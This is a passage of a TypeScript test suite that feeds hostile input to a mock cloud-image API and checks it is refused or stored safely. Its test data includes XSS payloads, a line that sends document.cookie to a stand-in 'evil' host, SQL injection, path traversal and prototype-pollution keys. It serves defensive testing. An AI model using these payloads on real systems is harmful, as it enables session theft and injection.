// Hostile input against the API: markup and script, right-to-left and zero-width text, emoji,
// 10,000-character strings, wrong JSON types in every parameter, arrays of 10,000 items, deeply
// nested JSON, bodies near the size limit, prototype-pollution keys and odd headers. Each answer is
// a specific API error naming the parameter (or a success where the input is valid: markup in a
// name is a valid name, stored and returned verbatim), never InternalError, never a crash, and a
// refused request leaves the store exactly as it was.
//
// Most requests go through fetch → msw/node → backend (`call`); the body-size limits belong to the
// standalone HTTP server, which is started in-process on 127.0.0.1 for its own block.
import { http, passthrough } from 'msw';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createBackend } from './backend.ts';
import { server as mswServer } from './node.ts';
import { publicImages } from './catalogue/images.ts';
import { seedStore } from './seed/seed-store.ts';
import { imageResourceName } from '../rules/tag-service.ts';
import { createMockApiServer, type MockApiServer } from './server.ts';
import { demoCredential, signTc3 } from './tc3.ts';
import {
  A1,
  A2,
  A3,
  call,
  imageById,
  seededImageId,
  storeSnapshot,
  UUID,
  type CallOptions,
} from '../test/api-calls.ts';
import type { ApiResponse } from '../test/direct-call.ts';

const SEED = seedStore();
const REDIS = seededImageId(A1, 'ap-guangzhou', 'redis-cache-debian12');
const WEB = seededImageId(A1, 'ap-guangzhou', 'web-server-centos79');
const REDIS_RESOURCE = imageResourceName('ap-guangzhou', A1, REDIS);
const PUBLIC = publicImages('ap-guangzhou').find((i) => i.ImageName === 'CentOS 7.9 64-bit')!.ImageId;
const HK_INSTANCE = SEED.instances.find((i) => i.InstanceName === 'hk-proxy-01')!.InstanceId;
const GZ_INSTANCE = SEED.instances.find((i) => i.InstanceName === 'web-01')!.InstanceId;

let tried = 0;

/**
 * One hostile request: counted, and checked for what must hold whatever the input: an envelope with a
 * RequestId, no InternalError, and, when refused, a store unchanged byte for byte.
 */
async function hostile(action: string | null, params: unknown, options: CallOptions = {}): Promise<ApiResponse> {
  tried++;
  const before = storeSnapshot();
  const res = await call(action, params, options);
  expect(res.RequestId).toMatch(UUID);
  expect(res.Error?.Code, res.Error?.Message).not.toBe('InternalError');
  if (res.Error) {
    expect(res.Error.Message.length).toBeGreaterThan(0);
    expect(storeSnapshot(), `refused with ${res.Error.Code} but changed the store`).toBe(before);
  }
  return res;
}

function expectError(res: ApiResponse, code: string | RegExp, names: RegExp): void {
  expect(res.Error, 'expected a refusal').toBeDefined();
  if (typeof code === 'string') expect(res.Error!.Code, res.Error!.Message).toBe(code);
  else expect(res.Error!.Code, res.Error!.Message).toMatch(code);
  expect(res.Error!.Message).toMatch(names);
}

/** Object.prototype must never gain a property from a request. */
function expectPrototypesClean(): void {
  const probe = {} as Record<string, unknown>;
  for (const key of ['polluted', 'isAdmin', 'hacked']) {
    expect(probe[key]).toBeUndefined();
    expect(Object.prototype.hasOwnProperty.call(Object.prototype, key)).toBe(false);
  }
  expect(Array.prototype).not.toHaveProperty('polluted');
}

const ten = (n: number, c = 'x') => c.repeat(n);

// ---------------------------------------------------------------- valid but hostile text

const hostileNames: [string, string][] = [
  ['an <img onerror> tag', '<img src=x onerror=alert(1)>'],
  ['a <script> element', '<script>alert(document.cookie)</script>'],
  ['an attribute breakout', '"><svg onload=alert(1)>'],
  ['a javascript: URL', 'javascript:alert(1)//'],
  ['SQL', "'; DROP TABLE images; --"],
  ['a template expression', '{{constructor.constructor("alert(1)")()}}'],
  ['HTML entities', '&lt;b&gt;&amp;&quot;&#39;'],
  ['a right-to-left override', '\u202Egnp.exe\u202C-invoice'],
  ['Arabic', 'صورة الخادم'],
  ['Hebrew', 'תמונת שרת'],
  ['emoji', '😀👍🏽👨‍👩‍👧🇨🇳'],
  ['60 emoji (120 UTF-16 units)', ten(60, '😀')],
  ['zero-width characters', 'zero\u200Bwidth\u200Djoiner\u2060name'],
  ['combining marks', 'Z\u0351\u0361a\u0352\u0305l\u0313g\u0358o'],
  ['format strings', '%s%n%x%d ${7*7}'],
  ['a path', '../../etc/passwd'],
  ['prototype words', '__proto__'],
  ['constructor', 'constructor'],
  ['null', 'null'],
  ['a lone surrogate', 'half\ud800pair'],
  ['newlines and tabs', 'line1\nline2\tend'],
];

describe('markup, script and unusual text in names and descriptions are valid text, stored and returned verbatim', () => {
  it.each(hostileNames)('ModifyImageAttribute with %s', async (_label, name) => {
    const description = `<script>fetch('//evil/'+document.cookie)</script> ${name}`;
    const res = await hostile('ModifyImageAttribute', {
      ImageId: REDIS,
      ImageName: name,
      ImageDescription: description,
    });
    expect(res.Error).toBeUndefined();
    const image = await imageById(REDIS);
    expect(image?.ImageName).toBe(name);
    expect(image?.ImageDescription).toBe(description);
  });

  it.each(hostileNames)('CreateImage with %s', async (_label, name) => {
    const res = await hostile(
      'CreateImage',
      { InstanceId: HK_INSTANCE, ImageName: name, ImageDescription: `<img src=x onerror=alert(1)>${name}` },
      { region: 'ap-hongkong' },
    );
    expect(res.Error).toBeUndefined();
    const image = await imageById(res.ImageId as string, { region: 'ap-hongkong' });
    expect(image?.ImageName).toBe(name);
    expect(image?.ImageDescription).toBe(`<img src=x onerror=alert(1)>${name}`);
  });

  it('finds an image by a name with markup through the search filter', async () => {
    const name = '<img src=x onerror=alert(1)>';
    await hostile('ModifyImageAttribute', { ImageId: REDIS, ImageName: name });
    const res = await hostile('DescribeImages', { Filters: [{ Name: 'keyword', Values: ['onerror=alert'] }] });
    expect((res.ImageSet as { ImageName: string }[]).map((i) => i.ImageName)).toEqual([name]);
  });

  it('launches an instance whose name is markup, and returns it verbatim', async () => {
    const res = await hostile('RunInstances', {
      Placement: { Zone: 'ap-guangzhou-3' },
      ImageId: PUBLIC,
      InstanceType: 'S5.MEDIUM4',
      InstanceName: '<script>alert(1)</script>',
    });
    expect(res.Error).toBeUndefined();
    const list = await hostile('DescribeInstances', { InstanceIds: res.InstanceIdSet as string[] });
    expect((list.InstanceSet as { InstanceName: string }[])[0]!.InstanceName).toBe('<script>alert(1)</script>');
  });

  it.each(hostileNames.filter(([, name]) => !/^[A-Za-z][A-Za-z0-9._-]*$/.test(name)))(
    'refuses %s as an image family, naming it, and finds no family by it',
    async (_label, name) => {
      expectError(
        await hostile('ModifyImageAttribute', { ImageId: REDIS, ImageFamily: name }),
        /^InvalidParameterValue\.(InvalidImageFamily|TooLarge)$/,
        /Image family/,
      );
      const res = await hostile('DescribeImageFromFamily', { ImageFamily: name });
      expect(res.Error).toBeUndefined();
      expect(res.Image).toBeNull();
    },
  );

  it('refuses 61 emoji (61 characters) as too long, counting characters, not UTF-16 units', async () => {
    const res = await hostile('ModifyImageAttribute', { ImageId: REDIS, ImageName: ten(61, '😀') });
    expectError(res, 'InvalidParameterValue.TooLarge', /Image name.*60.*61/);
  });

  it('stores a tag whose key and value are markup (the tag rules allow < > ( ) / =) and returns it verbatim', async () => {
    const tag = { TagKey: '<script>alert(1)</script>', TagValue: '<img src=x onerror=alert(1)>' };
    const res = await hostile('ModifyResourceTags', { Resource: REDIS_RESOURCE, ReplaceTags: [tag] });
    expect(res.Error).toBeUndefined();
    expect((await imageById(REDIS))?.Tags).toContainEqual({ Key: tag.TagKey, Value: tag.TagValue });
  });

  it.each([
    ['an emoji', '😀', 'InvalidParameterValue.TagKeyCharacterIllegal'],
    ['a zero-width space', 'a\u200Bb', 'InvalidParameterValue.TagKeyCharacterIllegal'],
    ['a right-to-left override', '\u202Eenv', 'InvalidParameterValue.TagKeyCharacterIllegal'],
    ['a new line', 'env\nprod', 'InvalidParameterValue.TagKeyCharacterIllegal'],
    ['an ideographic space only', '\u3000', 'InvalidParameterValue.TagKeyCharacterIllegal'],
  ])('refuses a tag key with %s, naming it', async (_label, key, code) => {
    const res = await hostile('ModifyResourceTags', {
      Resource: REDIS_RESOURCE,
      ReplaceTags: [{ TagKey: key, TagValue: 'v' }],
    });
    expectError(res, code, /^Tag key ".*" (may contain|must not start)/s);
    expect((res.Error as { Field?: string }).Field).toBe('ReplaceTags.0.TagKey');
  });

  it.each([
    ['spaces only', '   '],
    ['an ideographic space', '\u3000'],
    ['tabs and new lines', '\t\n\r'],
    ['no-break spaces', '\u00A0\u00A0'],
    ['a byte-order mark', '\uFEFF'],
    ['zero-width spaces and joiners', '\u200B\u200C\u200D'],
    ['direction marks and overrides between spaces', ' \u200E\u200F\u202E '],
  ])('refuses a name of %s as empty', async (_label, name) => {
    const res = await hostile('ModifyImageAttribute', { ImageId: REDIS, ImageName: name });
    expectError(res, 'InvalidParameterValue', /Image name is required/);
  });
});

// ---------------------------------------------------------------- 10,000-character strings

const LONG = ten(10_000);
const longCases: {
  label: string;
  action: string;
  params: Record<string, unknown>;
  code: string | RegExp;
  names: RegExp;
  region?: string;
}[] = [
  {
    label: 'ImageName (ModifyImageAttribute)',
    action: 'ModifyImageAttribute',
    params: { ImageId: REDIS, ImageName: LONG },
    code: 'InvalidParameterValue.TooLarge',
    names: /Image name.*60.*10000/,
  },
  {
    label: 'ImageDescription (ModifyImageAttribute)',
    action: 'ModifyImageAttribute',
    params: { ImageId: REDIS, ImageDescription: LONG },
    code: 'InvalidParameterValue.TooLarge',
    names: /description.*256/i,
  },
  {
    label: 'ImageFamily',
    action: 'ModifyImageAttribute',
    params: { ImageId: REDIS, ImageFamily: LONG },
    code: 'InvalidParameterValue.TooLarge',
    names: /Image family.*60.*10000/,
  },
  {
    label: 'ImageFamily (DescribeImageFromFamily)',
    action: 'DescribeImageFromFamily',
    params: { ImageFamily: LONG },
    code: 'InvalidParameterValue.TooLarge',
    names: /`ImageFamily`.*60/,
  },
  {
    label: 'ImageId',
    action: 'ModifyImageAttribute',
    params: { ImageId: LONG, ImageName: 'x' },
    code: 'InvalidImageId.Malformed',
    names: /Image ID/,
  },
  {
    label: 'ImageName (CreateImage)',
    action: 'CreateImage',
    params: { InstanceId: GZ_INSTANCE, ImageName: LONG },
    code: 'InvalidParameterValue.TooLarge',
    names: /Image name/,
  },
  {
    label: 'InstanceId (CreateImage)',
    action: 'CreateImage',
    params: { InstanceId: LONG, ImageName: 'ok' },
    code: 'InvalidInstanceId.Malformed',
    names: /Instance ID/,
  },
  {
    label: 'ImageUrl (ImportImage)',
    action: 'ImportImage',
    params: {
      Architecture: 'x86_64',
      OsType: 'CentOS',
      OsVersion: '7',
      ImageUrl: `https://b-1250000000.cos.ap-guangzhou.myqcloud.com/${LONG}.qcow2`,
      ImageName: 'imp',
    },
    code: 'InvalidParameterValue.TooLarge',
    names: /^Image file URL must be at most 1024 characters \(it has 10\d{3}\)\.$/,
  },
  {
    label: 'OsType (ImportImage)',
    action: 'ImportImage',
    params: {
      Architecture: 'x86_64',
      OsType: LONG,
      OsVersion: '7',
      ImageUrl: 'https://b-1250000000.cos.ap-guangzhou.myqcloud.com/a.qcow2',
      ImageName: 'imp',
    },
    code: 'InvalidParameterValue.TooLarge',
    names: /`OsType`.*64/,
  },
  {
    label: 'AccountIds.0',
    action: 'ModifyImageSharePermission',
    params: { ImageId: REDIS, AccountIds: [LONG], Permission: 'SHARE' },
    code: 'InvalidParameterValue.InvalidAppIdFormat',
    names: /^Account ID "x{64}…" must contain digits only\.$/,
  },
  {
    label: 'AccountIds.0 (10,000 digits)',
    action: 'ModifyImageSharePermission',
    params: { ImageId: REDIS, AccountIds: [ten(10_000, '9')], Permission: 'SHARE' },
    code: 'InvalidParameterValue.InvalidAppIdFormat',
    names: /^Account ID "9{64}…" must be a root account ID of 10 to 12 digits/,
  },
  {
    label: 'DestinationRegions.0',
    action: 'SyncImages',
    params: { ImageIds: [REDIS], DestinationRegions: [LONG] },
    code: 'InvalidParameterValue.TooLarge',
    names: /`DestinationRegions\.0`/,
  },
  {
    label: 'ImageName (SyncImages)',
    action: 'SyncImages',
    params: { ImageIds: [REDIS], DestinationRegions: ['ap-beijing'], ImageName: LONG },
    code: 'InvalidParameterValue.TooLarge',
    names: /Image name/,
  },
  {
    label: 'BucketName (ExportImages)',
    action: 'ExportImages',
    params: { ImageIds: [REDIS], BucketName: LONG },
    code: 'InvalidParameterValue.TooLarge',
    names: /`BucketName`.*128/,
  },
  {
    label: 'FileNamePrefixList.0 (ExportImages)',
    action: 'ExportImages',
    params: { ImageIds: [REDIS], BucketName: 'images-1250000001', FileNamePrefixList: [LONG] },
    code: 'InvalidParameterValue.TooLarge',
    names: /`FileNamePrefixList\.0`/,
  },
  {
    label: 'RoleName (ExportImages)',
    action: 'ExportImages',
    params: { ImageIds: [REDIS], BucketName: 'images-1250000001', RoleName: LONG },
    code: 'InvalidParameterValue.TooLarge',
    names: /`RoleName`.*128/,
  },
  {
    label: 'ReplaceTags.0.TagKey (ModifyResourceTags)',
    action: 'ModifyResourceTags',
    params: { Resource: REDIS_RESOURCE, ReplaceTags: [{ TagKey: LONG, TagValue: 'v' }] },
    code: 'InvalidParameterValue.TagKeyLengthExceeded',
    names: /tag key must be at most 127 characters \(it has 10000\)/,
  },
  {
    label: 'ReplaceTags.0.TagValue (ModifyResourceTags)',
    action: 'ModifyResourceTags',
    params: { Resource: REDIS_RESOURCE, ReplaceTags: [{ TagKey: 'k', TagValue: LONG }] },
    code: 'InvalidParameterValue.TagValueLengthExceeded',
    names: /tag value must be at most 255 characters \(it has 10000\)/,
  },
  {
    label: 'Resource (ModifyResourceTags)',
    action: 'ModifyResourceTags',
    params: { Resource: LONG, DeleteTags: [{ TagKey: 'k' }] },
    code: 'InvalidParameterValue.ResourceDescriptionError',
    names: /^Resource "x{64}…" is not the six-segment name of an image/,
  },
  {
    label: 'KmsKeyId (SyncImages)',
    action: 'SyncImages',
    params: { ImageIds: [REDIS], DestinationRegions: ['ap-beijing'], KmsKeyId: LONG },
    code: 'InvalidParameterValue.TooLarge',
    names: /`KmsKeyId`/,
  },
  {
    label: 'Filters.0.Values.0',
    action: 'DescribeImages',
    params: { Filters: [{ Name: 'image-name', Values: [LONG] }] },
    code: 'InvalidParameterValue.TooLarge',
    names: /`Filters\.0\.Values\.0`.*256/,
  },
  {
    label: 'Filters.0.Name',
    action: 'DescribeImages',
    params: { Filters: [{ Name: LONG, Values: ['x'] }] },
    code: 'InvalidFilter',
    names: /^Unknown filter "x{64}…"; supported filters: /,
  },
  {
    label: 'InstanceType (DescribeImages)',
    action: 'DescribeImages',
    params: { InstanceType: LONG },
    code: 'InvalidParameterValue.TooLarge',
    names: /`InstanceType`.*64/,
  },
  {
    label: 'InstanceName (RunInstances)',
    action: 'RunInstances',
    params: { Placement: { Zone: 'ap-guangzhou-3' }, ImageId: PUBLIC, InstanceType: 'S5.MEDIUM4', InstanceName: LONG },
    code: 'InvalidParameterValue.TooLarge',
    names: /Instance name/,
  },
  {
    label: 'Placement.Zone (RunInstances)',
    action: 'RunInstances',
    params: { Placement: { Zone: LONG }, ImageId: PUBLIC, InstanceType: 'S5.MEDIUM4' },
    code: 'InvalidParameterValue.TooLarge',
    names: /`Placement\.Zone`/,
  },
  {
    label: 'HostName (RunInstances)',
    action: 'RunInstances',
    params: { Placement: { Zone: 'ap-guangzhou-3' }, ImageId: PUBLIC, InstanceType: 'S5.MEDIUM4', HostName: LONG },
    code: 'InvalidParameterValue.TooLarge',
    names: /`HostName`/,
  },
  {
    label: 'a tag key (CreateImage)',
    action: 'CreateImage',
    params: {
      InstanceId: GZ_INSTANCE,
      ImageName: 'x',
      TagSpecification: [{ ResourceType: 'image', Tags: [{ Key: LONG, Value: 'v' }] }],
    },
    code: 'InvalidParameterValue.TooLarge',
    names: /^A tag key must be at most 127 characters \(it has 10000\)\.$/,
  },
  {
    label: 'a tag value (RunInstances)',
    action: 'RunInstances',
    params: {
      Placement: { Zone: 'ap-guangzhou-3' },
      ImageId: PUBLIC,
      InstanceType: 'S5.MEDIUM4',
      TagSpecification: [{ ResourceType: 'instance', Tags: [{ Key: 'k', Value: LONG }] }],
    },
    code: 'InvalidParameterValue.TooLarge',
    names: /^A tag value must be at most 255 characters \(it has 10000\)\.$/,
  },
  {
    // Refused by the request bounds (as on every host) before the schema could call it unknown.
    label: 'a parameter name',
    action: 'DescribeImages',
    params: { [LONG]: 1 },
    code: 'InvalidParameter',
    names: /^The parameter name `x{64}…` is longer than 128 characters/,
  },
];

describe('10,000-character strings are refused with the parameter named', () => {
  it.each(longCases.map((c) => [c.label, c] as const))('%s', async (_label, c) => {
    const res = await hostile(c.action, c.params, { region: c.region });
    expectError(res, c.code, c.names);
  });

  it.each([
    ['X-TC-Region', { region: LONG }, 'InvalidRegion.NotFound'],
    ['X-TC-Action', { action: LONG }, 'InvalidAction'],
    ['X-TC-Version', { version: LONG }, 'NoSuchVersion'],
    ['X-Mock-Account', { account: LONG }, 'AuthFailure.SecretIdNotFound'],
  ] as const)('a 10,000-character %s header', async (_label, options, code) => {
    const { action = 'DescribeImages', ...rest } = options as CallOptions & { action?: string };
    const res = await hostile(action, {}, rest);
    expect(res.Error?.Code).toBe(code);
  });

  it.each([
    ['X-TC-Region', { region: LONG }, /^The region x{64}… does not exist\.$/],
    ['X-TC-Action', { action: LONG }, /^The action x{64}… does not exist in CVM /],
  ] as const)('a 10,000-character %s header is echoed cut to 64 characters', async (_label, options, message) => {
    const { action = 'DescribeImages', ...rest } = options as CallOptions & { action?: string };
    const res = await hostile(action, {}, rest);
    expect(res.Error?.Message).toMatch(message);
  });
});

// ---------------------------------------------------------------- wrong JSON types everywhere

type Json = null | boolean | number | string | Json[] | { [k: string]: Json };

const wrongFor: Record<string, Json[]> = {
  string: [123, 0, -1.5, null, true, false, [], ['x'], {}, { x: 'y' }],
  number: ['1', '', null, true, [], [1], {}, { n: 1 }],
  boolean: ['true', 'false', 1, 0, null, [], {}],
  array: ['x', '', 1, null, true, {}, { 0: 'x' }],
  object: ['x', 1, null, true, [], [{}]],
};

function typeOf(v: Json): keyof typeof wrongFor {
  if (Array.isArray(v)) return 'array';
  if (v === null) throw new Error('no null in base requests');
  return typeof v as keyof typeof wrongFor;
}

/** Valid requests; each field (and nested field) is replaced in turn by values of every other JSON type. */
const validRequests: { action: string; params: Record<string, Json>; region?: string }[] = [
  {
    action: 'DescribeImages',
    params: {
      Filters: [{ Name: 'image-type', Values: ['PUBLIC_IMAGE'] }],
      Offset: 0,
      Limit: 10,
      InstanceType: 'S5.MEDIUM4',
      OrderField: 'ImageName',
      Order: 'ASC',
    },
  },
  { action: 'DescribeImages', params: { ImageIds: [PUBLIC] } },
  {
    action: 'CreateImage',
    params: {
      InstanceId: GZ_INSTANCE,
      ImageName: 'typed',
      ImageDescription: 'd',
      ForcePoweroff: 'true',
      Sysprep: 'false',
      DataDiskIds: [],
      ImageFamily: 'f',
      DryRun: true,
    },
  },
  {
    action: 'ImportImage',
    params: {
      Architecture: 'x86_64',
      OsType: 'CentOS',
      OsVersion: '7',
      ImageUrl: 'https://b-1250000000.cos.ap-guangzhou.myqcloud.com/a.qcow2',
      ImageName: 'imported',
      ImageDescription: 'd',
      Force: false,
      LicenseType: 'TencentCloud',
      BootMode: 'UEFI',
      DryRun: true,
    },
  },
  {
    action: 'ModifyImageAttribute',
    params: { ImageId: REDIS, ImageName: 'typed', ImageDescription: 'd', ImageFamily: 'f', ImageDeprecated: false },
  },
  { action: 'DeleteImages', params: { ImageIds: [REDIS], DeleteBindedSnap: false, DryRun: true } },
  { action: 'ModifyImageSharePermission', params: { ImageId: REDIS, AccountIds: [A3], Permission: 'SHARE' } },
  { action: 'DescribeImageSharePermission', params: { ImageId: WEB } },
  { action: 'DescribeImageFromFamily', params: { ImageFamily: 'web-tier' } },
  {
    action: 'SyncImages',
    params: {
      ImageIds: [REDIS],
      DestinationRegions: ['ap-beijing'],
      ImageName: 'copy',
      ImageSetRequired: true,
      Encrypt: false,
      DryRun: true,
    },
  },
  {
    action: 'ExportImages',
    params: {
      BucketName: 'images-1250000001',
      ImageIds: [REDIS],
      ExportFormat: 'QCOW2',
      FileNamePrefixList: ['typed'],
      OnlyExportRootDisk: false,
      RoleName: 'CVM_QcsRole',
      DryRun: true,
    },
  },
  {
    action: 'ModifyResourceTags',
    params: {
      Resource: REDIS_RESOURCE,
      ReplaceTags: [{ TagKey: 'typed', TagValue: 'v' }],
      DeleteTags: [{ TagKey: 'gone' }],
    },
  },
  { action: 'DescribeInstances', params: { InstanceIds: [GZ_INSTANCE], Offset: 0, Limit: 10 } },
  {
    action: 'RunInstances',
    params: {
      Placement: { Zone: 'ap-guangzhou-3' },
      ImageId: PUBLIC,
      InstanceType: 'S5.MEDIUM4',
      InstanceChargeType: 'POSTPAID_BY_HOUR',
      SystemDisk: { DiskType: 'CLOUD_PREMIUM', DiskSize: 50 },
      DataDisks: [{ DiskSize: 100 }],
      InstanceCount: 1,
      InstanceName: 'typed',
      SecurityGroupIds: ['sg-1'],
      ClientToken: 'token',
      DryRun: true,
    },
  },
];

/** Every path to a value in a request, with the value: `ImageIds`, `ImageIds.0`, `Placement.Zone`... */
function paths(value: Json, prefix: (string | number)[] = []): { path: (string | number)[]; value: Json }[] {
  const here = prefix.length > 0 ? [{ path: prefix, value }] : [];
  if (Array.isArray(value)) return [...here, ...value.flatMap((v, i) => paths(v, [...prefix, i]))];
  if (value !== null && typeof value === 'object')
    return [...here, ...Object.entries(value).flatMap(([k, v]) => paths(v, [...prefix, k]))];
  return here;
}

function withValueAt(request: Record<string, Json>, path: (string | number)[], value: Json): Record<string, Json> {
  const copy = structuredClone(request) as Record<string, Json>;
  let node: Json = copy;
  for (const key of path.slice(0, -1)) node = (node as Record<string, Json>)[key as string]!;
  (node as Record<string, Json>)[path.at(-1) as string] = value;
  return copy;
}

const typeCases = validRequests.flatMap((req, r) =>
  paths(req.params).map(({ path, value }) => ({
    name: `${req.action}${validRequests.findIndex((x) => x.action === req.action) === r ? '' : ' (ImageIds)'} · ${path.join('.')} (${typeOf(value)})`,
    req,
    path,
    value,
  })),
);

describe('wrong JSON types in every parameter are refused as InvalidParameter naming the parameter', () => {
  it.each(validRequests.map((r) => [r.action, r] as const))(
    'the valid %s request these start from is accepted',
    async (_a, req) => {
      const res = await hostile(req.action, req.params, { region: req.region });
      if (res.Error) expect(res.Error.Code).toBe('DryRunOperation');
    },
  );

  it.each(typeCases.map((c) => [c.name, c] as const))('%s', async (_name, { req, path, value }) => {
    for (const wrong of wrongFor[typeOf(value)]!) {
      const res = await hostile(req.action, withValueAt(req.params, path, wrong), { region: req.region });
      expect(res.Error?.Code, `${path.join('.')} = ${JSON.stringify(wrong)}: ${res.Error?.Message}`).toBe(
        'InvalidParameter',
      );
      expect(res.Error!.Message).toContain(`\`${path.join('.')}\``);
    }
  });

  it.each([
    ['an array', '[]'],
    ['an array of the parameters', '[{"ImageId":"img-aaaaaaaa"}]'],
    ['a string', '"ImageId"'],
    ['a number', '42'],
    ['null', 'null'],
    ['true', 'true'],
  ])('a body that is %s, not an object', async (_label, body) => {
    const res = await hostile('ModifyImageAttribute', {}, { rawBody: body });
    expectError(res, 'InvalidParameter', /body must be a JSON object/);
  });

  it.each([
    ['cut short', '{"ImageId": "img-'],
    ['a trailing comma', '{"ImageId": "img-aaaaaaaa",}'],
    ['single quotes', "{'ImageId': 'img-aaaaaaaa'}"],
    ['a NUL byte', '\u0000'],
    ['JavaScript, not JSON', '{ImageId: undefined}'],
    ['two objects', '{}{}'],
  ])('a body that is not JSON (%s)', async (_label, body) => {
    const res = await hostile('ModifyImageAttribute', {}, { rawBody: body });
    expectError(res, 'InvalidParameter', /not valid JSON/);
  });
});

// ---------------------------------------------------------------- arrays of 10,000 items
// Past REQUEST_ARRAY_MAX (100) the request bounds refuse an array before any schema walks it, on
// every host, naming the parameter and its size; an action's own limit (10 filters, 5 values, 20
// data disks...) answers for sizes up to that (src/rules/*.test.ts, "too many" cases).

const imageIds = (n: number) => Array.from({ length: n }, (_, i) => `img-${i.toString(36).padStart(8, '0')}`);
const accountIds = (n: number) => Array.from({ length: n }, (_, i) => String(300_000_000_000 + i));
const LIMITED = 'InvalidParameterValue.LimitExceeded';

const bigArrays: { label: string; action: string; params: Record<string, unknown>; code: string; names: RegExp }[] = [
  {
    label: 'DescribeImages ImageIds',
    action: 'DescribeImages',
    params: { ImageIds: imageIds(10_000) },
    code: LIMITED,
    names: /`ImageIds`.*100/,
  },
  {
    label: 'DescribeImages Filters',
    action: 'DescribeImages',
    params: { Filters: Array.from({ length: 10_000 }, () => ({ Name: 'image-name', Values: ['x'] })) },
    code: LIMITED,
    names: /`Filters` has 10000 items.*100/,
  },
  {
    label: 'DescribeImages Filters.0.Values',
    action: 'DescribeImages',
    params: { Filters: [{ Name: 'image-name', Values: accountIds(10_000) }] },
    code: LIMITED,
    names: /`Filters.0.Values` has 10000 items.*100/,
  },
  {
    label: 'DeleteImages ImageIds',
    action: 'DeleteImages',
    params: { ImageIds: imageIds(10_000) },
    code: LIMITED,
    names: /`ImageIds`.*100/,
  },
  {
    label: 'ModifyImageSharePermission AccountIds',
    action: 'ModifyImageSharePermission',
    params: { ImageId: REDIS, AccountIds: accountIds(10_000), Permission: 'SHARE' },
    code: LIMITED,
    names: /`AccountIds`.*100/,
  },
  {
    label: 'ModifyImageSharePermission CANCEL AccountIds',
    action: 'ModifyImageSharePermission',
    params: { ImageId: WEB, AccountIds: accountIds(10_000), Permission: 'CANCEL' },
    code: LIMITED,
    names: /`AccountIds`.*100/,
  },
  {
    label: 'SyncImages DestinationRegions',
    action: 'SyncImages',
    params: { ImageIds: [REDIS], DestinationRegions: Array.from({ length: 10_000 }, () => 'ap-beijing') },
    code: LIMITED,
    names: /`DestinationRegions` has 10000 items/,
  },
  {
    label: 'SyncImages ImageIds',
    action: 'SyncImages',
    params: { ImageIds: imageIds(10_000), DestinationRegions: ['ap-beijing'] },
    code: LIMITED,
    names: /`ImageIds` has 10000 items/,
  },
  {
    label: 'ExportImages ImageIds',
    action: 'ExportImages',
    params: { ImageIds: imageIds(10_000), BucketName: 'images-1250000001' },
    code: LIMITED,
    names: /`ImageIds` has 10000 items/,
  },
  {
    label: 'ExportImages FileNamePrefixList',
    action: 'ExportImages',
    params: { ImageIds: [REDIS], BucketName: 'images-1250000001', FileNamePrefixList: accountIds(10_000) },
    code: LIMITED,
    names: /`FileNamePrefixList` has 10000 items/,
  },
  {
    label: 'ModifyResourceTags ReplaceTags',
    action: 'ModifyResourceTags',
    params: {
      Resource: REDIS_RESOURCE,
      ReplaceTags: Array.from({ length: 10_000 }, (_, i) => ({ TagKey: `k${i}`, TagValue: 'v' })),
    },
    code: LIMITED,
    names: /`ReplaceTags`/,
  },
  {
    label: 'CreateImage DataDiskIds',
    action: 'CreateImage',
    params: { InstanceId: GZ_INSTANCE, ImageName: 'x', DataDiskIds: accountIds(10_000) },
    code: LIMITED,
    names: /`DataDiskIds` has 10000 items/,
  },
  {
    label: 'DescribeInstances InstanceIds',
    action: 'DescribeInstances',
    params: { InstanceIds: Array.from({ length: 10_000 }, () => GZ_INSTANCE) },
    code: LIMITED,
    names: /`InstanceIds`.*100/,
  },
  {
    label: 'RunInstances DataDisks',
    action: 'RunInstances',
    params: {
      Placement: { Zone: 'ap-guangzhou-3' },
      ImageId: PUBLIC,
      InstanceType: 'S5.MEDIUM4',
      DataDisks: Array.from({ length: 10_000 }, () => ({ DiskSize: 10 })),
    },
    code: LIMITED,
    names: /`DataDisks` has 10000 items/,
  },
  {
    label: 'RunInstances SecurityGroupIds',
    action: 'RunInstances',
    params: {
      Placement: { Zone: 'ap-guangzhou-3' },
      ImageId: PUBLIC,
      InstanceType: 'S5.MEDIUM4',
      SecurityGroupIds: accountIds(10_000),
    },
    code: LIMITED,
    names: /`SecurityGroupIds` has 10000 items/,
  },
];

describe('arrays of 10,000 items are refused with the limit and the parameter named', () => {
  it.each(bigArrays.map((c) => [c.label, c] as const))('%s', async (_label, c) => {
    const res = await hostile(c.action, c.params);
    expectError(res, c.code, c.names);
  });

  // Each of these used to answer InternalError (stack overflow) on every host but HTTP.
  it.each<[string, string, Record<string, unknown>, string]>([
    ['70,000 empty Filters', 'DescribeImages', { Filters: Array.from({ length: 70_000 }, () => ({})) }, 'Filters'],
    [
      '200,000 nulls in SyncImages ImageIds',
      'SyncImages',
      { ImageIds: Array.from({ length: 200_000 }, () => null), DestinationRegions: ['ap-beijing'] },
      'ImageIds',
    ],
    [
      '200,000 nulls in Filters.0.Values',
      'DescribeImages',
      { Filters: [{ Name: 'image-name', Values: Array.from({ length: 200_000 }, () => null) }] },
      'Filters.0.Values',
    ],
    [
      '150,000 nulls in TagSpecification',
      'CreateImage',
      { InstanceId: GZ_INSTANCE, ImageName: 'x', TagSpecification: Array.from({ length: 150_000 }, () => null) },
      'TagSpecification',
    ],
  ])('%s', async (_label, action, params, name) => {
    const res = await hostile(action, params);
    expectError(
      res,
      LIMITED,
      new RegExp(
        `^The parameter \`${name.replaceAll('.', '\\.')}\` has \\d+ items; no parameter accepts more than 100\\.$`,
      ),
    );
  });

  it.each([
    ['numbers', Array.from({ length: 10_000 }, (_, i) => i)],
    ['nulls', Array.from({ length: 10_000 }, () => null)],
    ['objects', Array.from({ length: 10_000 }, () => ({ ImageId: REDIS }))],
  ])('10,000 %s as ImageIds', async (_label, ids) => {
    const res = await hostile('DeleteImages', { ImageIds: ids });
    expectError(res, LIMITED, /`ImageIds`.*100/);
  });
});

// ---------------------------------------------------------------- deep nesting, big bodies

const nestedArray = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`;
const nestedObject = (depth: number) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;

// The request bounds refuse nesting past 8 levels on every host, naming the parameter where it
// went too deep, before any schema reads the request.
describe('deeply nested JSON and big bodies', () => {
  it.each([1_000, 10_000, 100_000])('a string parameter holding arrays nested %i deep', async (depth) => {
    const res = await hostile(
      'ModifyImageAttribute',
      {},
      { rawBody: `{"ImageId":"${REDIS}","ImageName":${nestedArray(depth)}}` },
    );
